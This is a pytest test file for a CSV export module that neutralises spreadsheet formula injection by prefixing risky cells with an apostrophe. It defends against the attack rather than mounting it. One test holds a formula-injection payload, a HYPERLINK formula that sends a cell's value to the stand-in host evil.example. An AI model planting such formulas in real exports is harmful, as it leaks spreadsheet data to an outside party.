"""CSV written by the app: a cell a spreadsheet would run as a formula comes out as text."""

import csv
import io
import re
from pathlib import Path

import pytest

from people.csv_export import csv_response, safe_cell, write_csv

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param("=1+1", "'=1+1", id="equals"),
        pytest.param("+44 20 7946 0000", "'+44 20 7946 0000", id="plus"),
        pytest.param("-2+3", "'-2+3", id="minus"),
        pytest.param("@SUM(A1:A2)", "'@SUM(A1:A2)", id="at"),
        pytest.param("\t=cmd", "'\t=cmd", id="tab"),
        pytest.param("\r=cmd", "'\r=cmd", id="carriage-return"),
        pytest.param("＝1+1", "'＝1+1", id="full-width-equals"),
        pytest.param("Alex Morgan", "Alex Morgan", id="a-name-is-untouched"),
        pytest.param("O'Brien", "O'Brien", id="an-apostrophe-inside-is-untouched"),
        pytest.param("a=b", "a=b", id="equals-inside-is-untouched"),
        pytest.param(None, "", id="none-is-empty"),
        pytest.param(0.6, "0.6", id="numbers-as-text"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(value, written):
    assert safe_cell(value) == written


def test_a_hyperlink_formula_as_a_name_is_read_back_as_text():
    name = '=HYPERLINK("https://evil.example/?d="&A2,"Click")'
    text = write_csv(header=["Worker"], rows=[[name], ["Alex Morgan"]])
    assert list(csv.reader(io.StringIO(text))) == [["Worker"], [f"'{name}"], ["Alex Morgan"]]


def test_the_header_is_made_safe_too():
    assert write_csv(header=["=A1"], rows=[]).splitlines() == ["'=A1"]


def test_a_download_is_an_attachment_excel_reads_as_utf_8():
    response = csv_response(filename="cohort-1-asye.csv", header=["Worker"], rows=[["Zoë"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="cohort-1-asye.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")  # the byte-order mark
    assert response.content.decode("utf-8-sig") == "Worker\r\nZoë\r\n"
    assert "no-store" in response["Cache-Control"]


def test_no_other_module_writes_csv():
    """people/csv_export.py is the one writer: anything else could skip the neutralising."""
    writer = re.compile(r"csv\.(writer|DictWriter)\b|\.writerows?\(")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("config", "people", "programmes", "supervision", "assessments")
        for path in (ROOT / folder).rglob("*.py")
        if path != ROOT / "people" / "csv_export.py" and writer.search(path.read_text())
    ]
    assert offenders == []
